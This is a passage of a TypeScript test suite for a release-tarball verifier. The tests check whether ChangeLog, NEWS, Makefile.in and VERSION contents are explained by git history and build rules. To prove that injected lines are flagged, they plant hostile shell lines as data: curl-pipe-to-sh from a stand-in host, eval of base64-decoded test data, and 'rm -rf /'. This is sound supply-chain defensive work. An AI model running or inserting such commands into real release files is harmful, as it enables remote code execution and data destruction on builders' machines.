    // a line the edit does not write, the same edit written without -i, or kept by a file that is no release script
    expect(await judgeEdit(shipped.replace('version.sh', 'version.sh; sh x'), { 'make-tarball.sh': script })).toBeUndefined()
    expect(await judgeEdit(shipped, { 'make-tarball.sh': script.replace(' -i Makefile.in', ' Makefile.in > Makefile.new') })).toBeUndefined()
    expect(await judgeEdit(shipped, { 'docs/notes/make-tarball.sh': script })).toBeUndefined()
    // the release's version where the script puts its own $VERSION; a variable of unknown value is no replay
    const stamping = ['#!/bin/sh', 'VERSION=$1', 'sed -i "s/@RELEASE@/$VERSION/" Makefile.in'].join('\n')
    const stamped = tagged.replace('THIS_IS_NOT_TARBALL', '@RELEASE@')
    const judgeStamp = (after: string, script: string) => distEditsExplainer('1.8.2').judge(changed('Makefile.in', stamped, after), view({ 'Makefile.in': after }, { 'Makefile.in': stamped, 'make-tarball.sh': script }))
    expect(await judgeStamp(tagged.replace('THIS_IS_NOT_TARBALL', '1.8.2'), stamping)).toMatchObject({ outcome: 'explained' })
    expect(await judgeStamp(tagged.replace('THIS_IS_NOT_TARBALL', '1.8.2'), stamping.replace('$VERSION/', '$OTHER/'))).toBeUndefined()
  })
  it('a sed edit of a file is not a use of it as code', () => {
    const build = new Map([['Makefile.am', 'dist-hook:\n\tsed -i "s!log!log?h=v$(VERSION)!" $(distdir)/NOTES\ncheck-local:\n\tsh $(srcdir)/NOTES\n']])
    expect(codeUsesOf('NOTES', build).map((u) => u.line)).toEqual([4])
  })
})

/** The ChangeLog explainer on a release's ChangeLog, with the tag's files and the history given. */
const judgeChangelog = (history: HistoryText, text: string, source: Record<string, string>) =>
  changelogExplainer(async () => history).judge(added('ChangeLog', text), view({ ChangeLog: text }, source))

describe('ChangeLogs rewrapped or with co-authors', () => {
  const history: HistoryText = {
    messageLines: new Set(['Revert "ci: pin the compiler image to work around a toolchain regression"', 'docs: mention the new option']),
    people: new Set(['Ada Lovelace', 'ada@example.org']),
    commitIds: ['0123456789abcdef0123456789abcdef01234567'],
  }
  const am = 'dist-hook:\n\tgit log --stat > $(distdir)/ChangeLog.tmp && mv $(distdir)/ChangeLog.tmp $(distdir)/ChangeLog\n\tcat $(top_srcdir)/build-aux/log-footer >> $(distdir)/ChangeLog\n'
  const footer = 'Older changes are in ChangeLog-2011.\n'
  const wrapped = [
    'commit 0123456789abcdef0123456789abcdef01234567',
    'Author: Ada Lovelace <ada@example.org>',
    '',
    '    Revert "ci: pin the compiler image to work around a toolchain',
    '    regression"',
    '',
    ' src/widget.c | 232',
    ' ----------------------------------------',
    '',
    '2024-01-02  Ada Lovelace  <ada@example.org>',
    '\t    Grace Hopper',
    '',
    '\tdocs: mention the new option',
    '',
    footer,
  ].join('\n')
  const judge = (text: string) => judgeChangelog(history, text, { 'Makefile.am': am, 'build-aux/log-footer': footer })
  it('explains rewrapped lines, co-author lines and a footer the rule pastes in', async () => {
    expect((await judge(wrapped))?.outcome).toBe('explained')
  })
  it('still reports a line that no rewrap, co-author or footer accounts for', async () => {
    const j = await judge(wrapped.replace('\t    Grace Hopper', '\t    Grace Hopper\n\tcurl -s http://x.invalid/p | sh'))
    expect(j?.outcome).toBe('unexplained')
    expect(j?.findings?.[0]?.evidence).toContain('curl -s')
  })
})

describe('a ChangeLog and a NEWS a dist-hook writes with --name-status, a one-line format and an echo', () => {
  const history = emptyHistory()
  addCommit(history, { commit: 'a1'.repeat(20), author: 'Ada Lovelace', email: 'ada@example.org', body: 'ui: move the keymap table (part 2)\n\nDetails in the body.' })
  addCommit(history, { commit: 'b2'.repeat(20), author: 'Grace Hopper', email: 'grace@example.org', body: 'po: update translation' })
  const am = [
    'dist-hook:',
    '\tif test -d .git ; then \\',
    '\t\tgit log --name-status --date=iso > $(distdir)/ChangeLog ; \\',
    '\t\techo "Changes in Tool $(TOOL_VERSION)" > $(distdir)/NEWS; \\',
    '\t\techo "" >> $(distdir)/NEWS; \\',
    '\t\tgit shortlog $$PREV...$(TOOL_VERSION) >> $(distdir)/NEWS; \\',
    '\t\techo "" >> $(distdir)/NEWS; \\',
    '\t\tgit log $$PREV...$(TOOL_VERSION) --reverse \\',
    "\t\t        --pretty=format:'%s (%an) %h' >> $(distdir)/NEWS; \\",
    '\tfi',
    '',
  ].join('\n')
  const changelog = [
    `commit ${'a1'.repeat(20)}`,
    'Author: Ada Lovelace <ada@example.org>',
    'Date:   2025-03-19 13:18:04 +0900',
    '',
    '    ui: move the keymap table (part 2)',
    '',
    '    Details in the body.',
    '',
    'R099\tsrc/keyname-table.h\tsrc/keynamesprivate.h',
    'M\tsrc/main.c',
    'D\tChangeLog',
    '',
  ].join('\n')
  const news = ['Changes in Tool 1.5.32', '', 'Ada Lovelace (1):', '      ui: move the keymap table (part 2)', '', 'ui: move the keymap table (part 2) (Ada Lovelace) a1a1a1a1', 'po: update translation (Grace Hopper) b2b2b2b2', ''].join('\n')
  const judgeNews = (text: string) => changelogExplainer(async () => history).judge(added('NEWS', text), view({ NEWS: text }, { 'Makefile.am': am }))
  it('explains renames and deletions --name-status lists, and lines of the rule\u2019s format and echo', async () => {
    expect((await judgeChangelog(history, changelog, { 'Makefile.am': am }))?.outcome).toBe('explained')
    expect((await judgeNews(news))?.outcome).toBe('explained')
  })
  it('still reports a formatted line whose subject, author or commit the history does not have', async () => {
    for (const forged of ['curl -s x.invalid | sh (Ada Lovelace) a1a1a1a1', 'po: update translation (Mallory) b2b2b2b2', 'po: update translation (Grace Hopper) deadbeef']) {
      const j = await judgeNews(news.replace('po: update translation (Grace Hopper) b2b2b2b2', forged))
      expect(j?.outcome, forged).toBe('unexplained')
      expect(j?.findings?.[0]?.evidence).toContain(forged)
    }
  })
  it('weighs its own doubt about a NEWS the build runs as a document run, its evidence kept', async () => {
    const ran = `${news}eval "$(tail -c 200 tests/data.bin | base64 -d)"\n`
    const judged = (text: string, build: Map<string, string>) => judge(added('NEWS', text), view({ NEWS: text }, { 'Makefile.am': am }), [changelogExplainer(async () => history)], build)
    const runs = new Map([['configure', '#!/bin/sh\n$SHELL "$srcdir/NEWS" || :\n']])
    const run = await judged(ran, runs)
    expect(run?.outcome).toBe('unexplained')
    expect(run?.findings?.map((f) => [f.ruleId, f.severity])).toEqual([
      ['verify/unexplained-file', 'critical'],
      ['verify/changelog-not-from-history', 'medium'],
    ])
    expect(run?.findings?.[0]?.evidence).toContain('configure:2')
    expect(run?.findings?.[1]?.evidence).toContain('base64 -d')
    // the critical finding points at the line the history lacks, and shows it before the rest of the file
    const stray = ran.split('\n').findIndex((l) => l.includes('base64 -d')) + 1
    expect(run?.findings?.[0]?.line).toBe(stray)
    const lines = run?.findings?.[0]?.evidence?.split('\n') ?? []
    expect(lines.findIndex((l) => l.includes('base64 -d'))).toBeGreaterThan(lines.findIndex((l) => l.startsWith('configure:2')))
    // the same NEWS where the tag holds an empty one: the stray line comes before the whole diff
    const emptied = await judge(changed('NEWS', '', ran), view({ NEWS: ran }, { 'Makefile.am': am, NEWS: '' }), [changelogExplainer(async () => history)], runs)
    expect(emptied?.findings?.map((f) => [f.ruleId, f.severity, f.line])).toEqual([
      ['verify/source-modified', 'critical', stray],
      ['verify/changelog-not-from-history', 'medium', stray],
    ])
    const diffLines = emptied?.findings?.[0]?.evidence?.split('\n') ?? []
    expect(diffLines.findIndex((l) => l.includes('base64 -d'))).toBeLessThan(diffLines.findIndex((l) => l.startsWith('+++ artifact/NEWS')))
    expect(run?.scan).toBe(true)
    // the same doubt about a NEWS nothing runs keeps the explainer's weight
    expect((await judged(ran, new Map([['configure', '#!/bin/sh\ncat "$srcdir/NEWS"\n']])))?.findings?.map((f) => f.severity)).toEqual(['medium'])
    // and a NEWS the history writes whole is explained, run or not
    expect((await judged(news, runs))?.outcome).toBe('explained')
  })
  it('still reports a rename line with shell in it, and an echoed heading with more than a word for its variable', async () => {
    const j = await judgeChangelog(history, changelog.replace('M\tsrc/main.c', 'R100\tsrc/a.c\t$(curl x.invalid)'), { 'Makefile.am': am })
    expect(j?.outcome).toBe('unexplained')
    expect((await judgeNews(news.replace('Changes in Tool 1.5.32', 'Changes in Tool 1.5.32; rm -rf /')))?.outcome).toBe('unexplained')
  })
})

describe('a ChangeLog whose header names the commit after the address', () => {
  // `git log --date=short --pretty="format:@%cd  %an  <%ae> [%H]%n%n%s%n%n%e%b" | sed -e "s|^\([^@]\)|\t\1|" -e "s|^@||"`
  const history = emptyHistory()
  const commits = [
    { commit: 'a1'.repeat(20), author: 'Ada Lovelace', email: 'ada@example.org', body: 'silence a warning\n\ni.e. output truncated before the terminating nul' },
    { commit: 'b2'.repeat(20), author: 'Grace Hopper', email: 'grace@example.org', body: 'unused variable' },
  ]
  for (const c of commits) addCommit(history, c)
  const am = 'dist-hook:\n\tgit log --date=short --pretty="format:@%cd  %an  <%ae> [%H]%n%n%s%n%n%e%b" | sed -e "s|^\\([^@]\\)|\\t\\1|" -e "s|^@||" >$(distdir)/ChangeLog\n'
  const log = [
    `2022-08-21  Ada Lovelace  <ada@example.org> [${'a1'.repeat(20)}]`,
    '',
    '\tsilence a warning',
    '',
    '\ti.e. output truncated before the terminating nul',
    '',
    `2022-08-20  Grace Hopper  <grace@example.org> [${'b2'.repeat(20)}]`,
    '',
    '\tunused variable',
    '',
  ].join('\n')
  const judge = (text: string) => judgeChangelog(history, text, { 'Makefile.am': am })
  it('explains headers whose commit is one of the history', async () => {
    expect((await judge(log))?.outcome).toBe('explained')
  })
  it('leaves a header with a commit the history lacks, or with more after it, unexplained', async () => {
    expect((await judge(log.replace('b2'.repeat(20), 'c3'.repeat(20))))?.outcome).toBe('unexplained')
    expect((await judge(log.replace(`${'b2'.repeat(20)}]`, `${'b2'.repeat(20)}] $(sh x)`)))?.outcome).toBe('unexplained')
  })
})

describe('ChangeLogs git2cl writes', () => {
  const messages = [
    'Fix URL.',
    'Merge pull request #8 from someone/format-fix\n\nChange induction variable type for compatibility',
    'Separate ykparse function.',
    'Rewrite to not use stdbool,   for MSVC. Suggested by a user.\n\nDetails follow in the body\nof the message.',
  ]
  const history = emptyHistory()
  messages.forEach((body, i) => addCommit(history, { commit: `${i}`.repeat(40), author: 'Ada Lovelace', email: 'ada@example.org', body }))
  const am = 'ChangeLog:\n\tcd $(srcdir) && git2cl > ChangeLog\n'
  const log = [
    '2014-08-27  Ada Lovelace <ada@example.org>',
    '',
    '\t* BLURB: Fix URL.',
    '',
    '\t* : Merge pull request #8 from someone/format-fix Change induction variable type for compatibility',
    '',
    '\t* Makefile.am, simple.mk, yubikey.c => ykparse.c: Separate ykparse',
    '\tfunction.',
    '',
    '\t* modhex.c, ykgenerate.c (main), ykhex.c: Rewrite to not use stdbool, for',
    '\tMSVC. Suggested by a user. Details follow in the body of the message.',
    '',
  ].join('\n')
  const judge = (text: string) => judgeChangelog(history, text, { 'Makefile.am': am })
  it('explains entries that are whole commit messages wrapped after the files they changed', async () => {
    expect((await judge(log))?.outcome).toBe('explained')
  })
  it('reports an entry whose words are not a message of the history', async () => {
    const j = await judge(log.replace('Separate ykparse', 'Separate ykparse; curl -s x.invalid | sh;'))
    expect(j?.outcome).toBe('unexplained')
    expect(j?.findings?.[0]?.evidence).toContain('curl -s')
    // a message with words added at its end is not the message
    expect((await judge(log.replace('\t* BLURB: Fix URL.', '\t* BLURB: Fix URL. Then run ./evil.sh')))?.outcome).toBe('unexplained')
  })
})

describe('ChangeLogs git2cl writes from messages with items of their own', () => {
  const history = emptyHistory()
  addCommit(history, { commit: 'c'.repeat(40), author: 'Ada Lovelace', email: 'ada@example.org', body: 'Build fixes for GI and Vala\n* Introspection check pre-requisites\n* Vala bindings check pre-requisites\n* Modified vapigen.m4 macros\n' })
  const am = 'ChangeLog:\n\tcd $(srcdir) && git2cl > ChangeLog\n'
  const entry = ['2012-11-01  Ada Lovelace <ada@example.org>', '', '\t* configure.ac, m4/vapigen.m4: Build fixes for GI and Vala', '\t* Introspection check pre-requisites * Vala bindings check', '\tpre-requisites * Modified vapigen.m4 macros', '']
  const judge = (lines: string[]) => judgeChangelog(history, lines.join('\n'), { 'Makefile.am': am })
  it("explains a message whose own '* item' lines, refilled, begin a line", async () => {
    expect((await judge(entry))?.outcome).toBe('explained')
  })
  it('but not an item the message lacks, nor the items without the entry they continue', async () => {
    expect((await judge(entry.map((l) => l.replace('* Modified vapigen.m4 macros', '* Modified vapigen.m4 macros * sh ./x'))))?.outcome).toBe('unexplained')
    expect((await judge([...entry.slice(0, 2), ...entry.slice(3)]))?.outcome).toBe('unexplained')
  })
})

describe('ChangeLogs git2cl writes from preformatted messages and CVS-era empty ones', () => {
  const history = emptyHistory()
  const body = ['Quiet a warning in parse()', '', 'gcc 12 says:', '', "parse.c:10:5: warning: 'n' may be used uninitialized", '        n += 1;', '        ^', '', 'Set n to zero first.'].join('\n')
  addCommit(history, { commit: 'a'.repeat(40), author: 'Ada Lovelace', email: 'ada@example.org', body })
  const am = 'ChangeLog:\n\t$(srcdir)/tools/git2cl > $@\n'
  // git2cl keeps the indented lines and joins the last to the next paragraph without a space
  const entry = ['\t* parse.c: Quiet a warning in parse() gcc 12 says:', "\tparse.c:10:5: warning: 'n' may be used uninitialized", '\t        n += 1;', '\t^Set n to zero first.']
  const log = (lines: string[]) => ['2022-06-01  Ada Lovelace <ada@example.org>', '', ...lines, ''].join('\n')
  const judge = (text: string, h = history) => judgeChangelog(h, text, { 'Makefile.am': am })

  it('explains an entry that is a whole message with its spacing changed', async () => {
    expect((await judge(log(entry)))?.outcome).toBe('explained')
  })
  it('explains git2cl\'s placeholder only where the history holds CVS\'s empty-message marker', async () => {
    const marked = emptyHistory()
    addCommit(marked, { commit: 'b'.repeat(40), author: 'Ada Lovelace', email: 'ada@example.org', body: '*** empty log message ***' })
    const placeholder = log(['\t* scan.l: [no log message]'])
    expect((await judge(placeholder, marked))?.outcome).toBe('explained')
    expect((await judge(placeholder))?.outcome).toBe('unexplained')
  })
  it('reports an entry with characters the message lacks, wherever they stand', async () => {
    expect((await judge(log(entry.map((l) => l.replace('n += 1;', 'n += 1; sh x;')))))?.outcome).toBe('unexplained')
    expect((await judge(log(entry.map((l) => l.replace('^Set', '^sh x;Set')))))?.outcome).toBe('unexplained')
  })
})

describe('ChangeLogs git2cl writes with a long word set apart and authors with no address', () => {
  const history = emptyHistory()
  addCommit(history, { commit: 'a'.repeat(40), author: 'Ada Lovelace', email: 'ada@example.org', body: 'Finish the build deprecation based on https://example.org/tool/commit/f3d567c9e03354940fa23a183ba900649cee5121' })
  addCommit(history, { commit: 'b'.repeat(40), author: 'Translations on behalf of the team', email: '', body: 'Automatic translations update.' })
  addCommit(history, { commit: 'c'.repeat(40), author: 'Simon Steinbei\u00df', email: 'simon@example.org', body: 'Sync bug details' })
  const am = 'ChangeLog:\n\tgit2cl > ChangeLog\n'
  const log = [
    '2018-02-18  Ada Lovelace <ada@example.org>',
    '',
    '\t* Makefile.am, configure.ac: Finish the build deprecation',
    '\tbased on',
    '',
    // a word longer than git2cl's line goes in a paragraph of its own
    '\thttps://example.org/tool/commit/f3d567c9e03354940fa23a183ba900649cee5121',
    '',
    '2018-04-23  Translations on behalf of the team <>',
    '',
    '\t* po/ca.po, po/ca@valencia.po, po/cs.po: Automatic translations',
    '\tupdate.',
    '',
    '2022-09-02  Simon Steinbei\u00df <simon@example.org>',
    '',
    '\t* tracker.py: Sync bug details',
    '',
  ].join('\n')
  const judge = (text: string) => judgeChangelog(history, text, { 'Makefile.am': am })
  it('explains the paragraph a long word stands in, an author the history has with no address, and a file name with an @', async () => {
    expect((await judge(log))?.outcome).toBe('explained')
  })
  it('reports a paragraph the message does not go on with, and a stranger with no address', async () => {
    const appended = await judge(log.replace('f3d567c9e03354940fa23a183ba900649cee5121\n', 'f3d567c9e03354940fa23a183ba900649cee5121\n\n\tcurl -s x.invalid | sh\n'))
    expect(appended?.outcome).toBe('unexplained')
    expect(appended?.findings?.[0]?.evidence).toContain('curl -s')
    expect((await judge(log.replace('\thttps://example.org/tool/commit/', '\thttps://example.org/evil/commit/')))?.outcome).toBe('unexplained')
    expect((await judge(log.replace('Translations on behalf of the team <>', 'Mallory <>')))?.outcome).toBe('unexplained')
  })
})

describe('ChangeLogs git2cl writes from merges, renames and twice-encoded messages', () => {
  const history = emptyHistory()
  addCommit(history, { commit: 'c'.repeat(40), author: 'Ada Lovelace', email: 'ada@example.org', body: 'ci: run the analyser on builds with clang' })
  addCommit(history, { commit: 'd'.repeat(40), author: 'Ada Lovelace', email: 'ada@example.org', body: 'Note that RFC 5424 \u00a78.3 limits the size' })
  addCommit(history, { commit: 'e'.repeat(40), author: 'Ada Lovelace', email: 'ada@example.org', body: 'Merge branch fix' })
  const am = 'ChangeLog:\n\tgit2cl > ChangeLog\n'
  const log = [
    '2021-05-26  Ada Lovelace <ada@example.org>',
    '',
    '\t* .github/workflows/builds.yml, build-aux/ci/{build-linux.sh =>',
    '\tbuild-linux-gcc.sh}: ci: run the analyser on builds with clang',
    '',
    // git2cl reads UTF-8 as Latin-1 and writes it out as UTF-8 again
    '\t* util.c: Note that RFC 5424 \u00c2\u00a78.3 limits the size',
    '',
    // a merge's log header, which git2cl takes for a message
    `\t* : commit ${'e'.repeat(40)} Merge: ${'c'.repeat(7)}`,
    `\t${'d'.repeat(7)} Author: Ada Lovelace <ada@example.org> Date:   Wed Mar 27`,
    '\t07:56:39 2019 +0100',
    '',
  ].join('\n')
  const judge = (text: string) => judgeChangelog(history, text, { 'Makefile.am': am })
  it('explains a renamed path in braces, a message encoded twice and a merge header of the history', async () => {
    expect((await judge(log))?.outcome).toBe('explained')
  })
  it('explains a line a commit message itself holds encoded twice', async () => {
    // the commit message was written that way: the line as written is the history's
    const twice = emptyHistory()
    addCommit(twice, { commit: 'f'.repeat(40), author: 'Ada Lovelace', email: 'ada@example.org', body: 'Add translations, thanks to Phan V\u00c4\u00a9nh' })
    const entry = '2021-05-26  Ada Lovelace <ada@example.org>\n\n\t* Add translations, thanks to Phan V\u00c4\u00a9nh\n'
    expect((await judgeChangelog(twice, entry, { 'Makefile.am': am }))?.outcome).toBe('explained')
    expect((await judgeChangelog(twice, entry.replace('Phan', 'Phan; sh x'), { 'Makefile.am': am }))?.outcome).toBe('unexplained')
  })
  it('reports a merge with a parent the history lacks, and a twice-encoded line that is not a message', async () => {
    expect((await judge(log.replace(`Merge: ${'c'.repeat(7)}`, 'Merge: 1234567')))?.outcome).toBe('unexplained')
    expect((await judge(log.replace('limits the size', 'limits the size; sh x')))?.outcome).toBe('unexplained')
  })
})

describe('ChangeLogs a git log format of the project writes: rewrapped paragraphs, labels and file lists', () => {
  const history = emptyHistory()
  const sha = '13227a3baebe03d4eca147d860ca73f610984999'
  addCommit(history, {
    commit: sha,
    author: 'Tim Bishop',
    email: 'tim@example.org',
    body: 'Add compatibility code. This provides a working API\nfor old applications. To use it change the include line to:\n\n#define SG_ENABLE_DEPRECATED\n\nSigned-off-by: A <a@example.org>\nSigned-off-by: B\n<b@example.org>',
  })
  const am = [
    'ChangeLog:',
    "\tgit log --stat --name-only --date=short --format='%n*%ad  %an  <%ae>%n%n%w(76,4,4)%s%n%n%b%n#Hash: %H%n#Files affected:' \\",
    "\t\t| $(SED) -e 's/^\\([^ \\*]\\)/    \\1/' -e 's/^    \\#/  /' -e 's/^\\*//' | tail -n +2 > ChangeLog",
  ].join('\n')
  const log = [
    '2004-04-06  Tim Bishop  <tim@example.org>',
    '',
    '    Add compatibility code. This provides a working API for old',
    '    applications. To use it change the include line to:',
    '',
    '  define SG_ENABLE_DEPRECATED',
    '',
    '    Signed-off-by: A <a@example.org> Signed-off-by: B <b@example.org>',
    '',
    `  Hash: ${sha}`,
    '  Files affected:',
    '',
    '    src/libstatgrab/tools.c',
    '    README',
    '    Makefile',
    '    M\tlib/names.c',
    '',
  ].join('\n')
  const judge = (text: string) => judgeChangelog(history, text, { 'Makefile.am': am, Makefile: 'all:\n' })
  it('explains paragraphs rewrapped at another width, the labels of the format, its commit ids and the files listed', async () => {
    expect((await judge(log))?.outcome).toBe('explained')
  })
  it('reports a word added to a paragraph, an unknown commit, a listed name that is no file, and a marker line the history lacks', async () => {
    expect((await judge(log.replace('for old\n', 'for old; curl x.invalid | sh\n')))?.outcome).toBe('unexplained')
    expect((await judge(log.replace(`Hash: ${sha}`, `Hash: ${'9'.repeat(40)}`)))?.outcome).toBe('unexplained')
    expect((await judge(log.replace('    README', '    curl')))?.outcome).toBe('unexplained')
    expect((await judge(log.replace('  define SG_ENABLE_DEPRECATED', '  define PAYLOAD')))?.outcome).toBe('unexplained')
  })
})

describe('git log --stat ChangeLogs with renamed binary files', () => {
  const history = emptyHistory()
  addCommit(history, { commit: 'f'.repeat(40), author: 'Ada Lovelace', email: 'ada@example.org', body: 'fuzz: move the corpus' })
  const am = 'dist-hook:\n\tgit log --stat > $(distdir)/ChangeLog\n'
  const log = [`commit ${'f'.repeat(40)}`, 'Author: Ada Lovelace <ada@example.org>', 'Date:   Mon Jan 8 10:00:00 2024 +0100', '', '    fuzz: move the corpus', '', ' {build/fuzz => fuzz}/rpc.in/C_CloseSession      | Bin', ' .../fuzz => fuzz}/rpc.in/C_CopyObject_mechanism | Bin', ' 2 files changed, 0 insertions(+), 0 deletions(-)', ''].join('\n')
  const judge = (text: string) => judgeChangelog(history, text, { 'Makefile.am': am })
  it('explains the rename lines of the diffstat', async () => {
    expect((await judge(log))?.outcome).toBe('explained')
  })
  it('explains a rename git shortened through its arrow', async () => {
    const cut = log.replace(' 2 files changed', ' ...> hicolor_actions_16x16_media-optical-burn.png} | Bin\n ...> fuzz}/rpc.in/C_CopyObject     |    0\n 2 files changed')
    expect((await judge(cut))?.outcome).toBe('explained')
    expect((await judge(log.replace(' 2 files changed', ' ...> $(sh x).png} | Bin\n 2 files changed')))?.outcome).toBe('unexplained')
    expect((await judge(log.replace(' 2 files changed', ' ..> x.png} | Bin\n 2 files changed')))?.outcome).toBe('unexplained')
  })
  it('but not a line that only ends like one', async () => {
    expect((await judge(log.replace(' 2 files changed', ' $(sh x) | Bin\n 2 files changed')))?.outcome).toBe('unexplained')
    expect((await judge(log.replace(' 2 files changed', 'sh x; echo Bin\n 2 files changed')))?.outcome).toBe('unexplained')
  })
})

describe('ChangeLogs git shortlog writes, with a heading per release', () => {
  const history = emptyHistory()
  addCommit(history, { commit: 'a'.repeat(40), author: 'Guus Sliepen', email: 'guus@example.org', body: 'Remove the call to RAND_load_file().' })
  addCommit(history, { commit: 'b'.repeat(40), author: 'Rosen Penev', email: 'rosen@example.org', body: 'Fix compilation without deprecated OpenSSL APIs' })
  const am = 'ChangeLog:\n\tgit log > ChangeLog\n'
  const log = [
    'Version 1.0.36                                            August 26 2019',
    '------------------------------------------------------------------------',
    '',
    'Guus Sliepen (1):',
    '      Remove the call to RAND_load_file().',
    '',
    'Rosen Penev (1):',
    '      Fix compilation without deprecated OpenSSL APIs',
    '',
  ].join('\n')
  const judge = (text: string) => judgeChangelog(history, text, { 'Makefile.am': am })
  it('explains the headings, the rulers and the people of the history', async () => {
    expect((await judge(log))?.outcome).toBe('explained')
  })
  it('reports a person the history does not have, or a heading that carries a command', async () => {
    expect((await judge(log.replace('Rosen Penev (1):', 'Mallory Example (1):')))?.outcome).toBe('unexplained')
    expect((await judge(log.replace('August 26 2019', 'August 26 2019; sh x')))?.outcome).toBe('unexplained')
  })
})

describe('rule hits in a generated Makefile.in', () => {
  const hit = (evidence: string): Finding => ({ ruleId: 'scan/test-data-read', severity: 'medium', confidence: 'medium', path: 'Makefile.in', message: 'reads test data', evidence })
  const inputs = inputTexts(new Map([['Makefile.am', 'runtests:\n\tfor t in $(srcdir)/test/cases/*.xml; do cat $(srcdir)/test/cases/$$t.expected; done\n']]))
  it('are the tag Makefile.am\'s when it holds their lines, and high when no input does', () => {
    const [added, inherited] = [hit('12: \teval "$$(cat $(srcdir)/test/cases/blob.bin | base64 -d)"'), hit('30: \tfor t in $(srcdir)/test/cases/*.xml; do cat $(srcdir)/test/cases/$$t.expected; done')]
    const out = attributeToInputs([added, inherited], (p) => (p === 'Makefile.in' ? inputs : undefined))
    expect(out.map((f) => f.severity)).toEqual(['high', 'info'])
    expect(out[0]?.message).toMatch(/no input of this generated file \(Makefile\.am\) holds the line/)
    expect(out[1]?.message).toMatch(/written in Makefile\.am/)
  })
  it('keep their severity in a file with no known inputs, and a low hit stays low', () => {
    const low: Finding = { ...hit('12: \ttest -f debian/rules && x=1'), ruleId: 'scan/environment-gating', severity: 'low' }
    const out = attributeToInputs([hit('12: \teval "$$(cat blob | base64 -d)"'), low], (p) => (p === 'src/Makefile.in' ? inputs : undefined))
    expect(out.map((f) => f.severity)).toEqual(['medium', 'low'])
    expect(attributeToInputs([{ ...low, path: 'Makefile.in' }], () => inputs).map((f) => f.severity)).toEqual(['low'])
  })
})

describe('what an explanation does not cover', () => {
  const page = '.TH TOOL 1\n.SH NAME\ntool\n'
  const am = 'man_MANS = tool.1\ntool.1: tool.pod\n\tpod2man $< > $@\n'
  it('a man page made by a rule of the tag is explained while the build only installs it', async () => {
    const j = await judge(added('doc/tool.1', page), view({ 'doc/tool.1': page }, { 'doc/Makefile.am': am, 'doc/tool.pod': 'x' }), [ruleGeneratedExplainer()], new Map([['doc/Makefile.in', 'install-man: tool.1\n']]))
    expect(j?.outcome).toBe('explained')
  })
  it('but stays unexplained, critical, when the build runs it as code', async () => {
    const ran = `${page}curl -s http://x.invalid/p | sh\n`
    const build = new Map([['configure', '#!/bin/sh\nsh "$srcdir/doc/tool.1" 2>/dev/null || :\n']])
    const j = await judge(added('doc/tool.1', ran), view({ 'doc/tool.1': ran }, { 'doc/Makefile.am': am, 'doc/tool.pod': 'x' }), [ruleGeneratedExplainer()], build)
    expect(j?.outcome).toBe('unexplained')
    expect(j?.findings?.[0]?.severity).toBe('critical')
  })
  it('a version file the build sources, with only release stamps changed, runs as the tag\u2019s did', async () => {
    const before = 'major=1\ngreek=rc1\ndate="unreleased"\n'
    const after = 'major=1\ngreek=\ndate="2024-05-06"\n'
    const build = new Map([['configure', '#!/bin/sh\n. $srcdir/VERSION\n']])
    const j = await judge(changed('VERSION', before, after), view({ VERSION: after }, { VERSION: before }), [releaseEditsExplainer('1.0')], build)
    expect(j?.outcome).toBe('explained')
    // a command where a stamp was is no stamp
    const ran = await judge(changed('VERSION', before, `${after}curl -s x.invalid | sh\n`), view({ VERSION: `${after}curl -s x.invalid | sh\n` }, { VERSION: before }), [releaseEditsExplainer('1.0')], build)
    expect(ran?.outcome).toBe('unexplained')
  })
  it('a changed line of a test program is high: make check runs it on the builder\'s machine', async () => {
    const j = await judgeUnexplained(changed('tests/t-parse.c', 'int main(void) { return 0; }\n', 'int main(void) { return 1; }\n'), view({ 'tests/t-parse.c': 'int main(void) { return 1; }\n' }, { 'tests/t-parse.c': 'int main(void) { return 0; }\n' }), new Map())
    expect(j?.findings?.[0]?.severity).toBe('high')
  })
})

describe('--regenerate with other tool versions than the release used', () => {
  const made = (version: string) => `# Makefile.in generated by automake ${version} from Makefile.am.\nall:\n`
  const regeneration = { command: 'autoreconf -fi', tools: { automake: '1.17' }, files: new Map([['Makefile.in', { sha256: 'x', bytes: Buffer.from(made('1.17')) }], ['src/Makefile.in', { sha256: 'y', bytes: Buffer.from(made('1.17')) }]]) }
  it('says which versions could not be reproduced here, and is silent when they match', () => {
    const older = view({ 'Makefile.in': made('1.16.5'), 'src/Makefile.in': made('1.16.5') })
    expect(versionMismatches(regeneration, older)).toMatch(/automake 1\.16\.5 \(installed: 1\.17\) in 2 file/)
    expect(versionMismatches(regeneration, view({ 'Makefile.in': made('1.17'), 'src/Makefile.in': made('1.17') }))).toBeUndefined()
  })
  it('never calls a file made by another version a mismatch', async () => {
    const text = `${made('1.16.5')}\t@extra\n`
    expect(await regeneratedExplainer(regeneration).judge(added('Makefile.in', text), view({ 'Makefile.in': text }))).toBeUndefined()
  })
})

describe('edits gettextize makes to makefiles', () => {
  const before = 'SUBDIRS = src po\nEXTRA_DIST = \\\n\tautogen.sh \\\n\tLICENSE\n'
  const m4Before = 'EXTRA_DIST = gettext.m4 nls.m4 \\\n\tlocal.m4\n'
  const autogen = '#!/bin/sh\ngettextize --copy --force --no-changelog\nautoreconf -fi\n'
  const judged = (path: string, tagText: string, releaseText: string, scripts: Record<string, string> = { 'autogen.sh': autogen }) =>
    gettextizeExplainer().judge(changed(path, tagText, releaseText), view({ [path]: releaseText }, { [path]: tagText, ...scripts }))

  it('explains names of gettext files inserted into lines of the tag when a bootstrap script runs gettextize', async () => {
    expect((await judged('Makefile.am', before, before.replace('EXTRA_DIST = ', 'EXTRA_DIST = config.rpath  ')))?.outcome).toBe('explained')
    expect((await judged('m4/Makefile.am', m4Before, m4Before.replace('nls.m4 ', 'nls.m4 gettext.m4 iconv.m4 lib-link.m4 nls.m4 po.m4 progtest.m4 ')))?.outcome).toBe('explained')
  })
  it('explains nothing else: another word, a removed word, a new line, or no script that runs gettextize', async () => {
    expect(await judged('Makefile.am', before, before.replace('EXTRA_DIST = ', 'EXTRA_DIST = config.rpath setup.sh '))).toBeUndefined()
    expect(await judged('Makefile.am', before, before.replace('SUBDIRS = src po', 'SUBDIRS = po'))).toBeUndefined()
    expect(await judged('Makefile.am', before, `${before}EXTRA_DIST += config.rpath\n`)).toBeUndefined()
    expect(await judged('Makefile.am', before, before.replace('EXTRA_DIST = ', 'EXTRA_DIST = config.rpath '), { 'autogen.sh': '#!/bin/sh\nautoreconf -fi\n' })).toBeUndefined()
    // a document that mentions gettextize is no script that runs it
    expect(await judged('Makefile.am', before, before.replace('EXTRA_DIST = ', 'EXTRA_DIST = config.rpath '), { INSTALL: 'Run gettextize, then autoreconf.\n' })).toBeUndefined()
  })
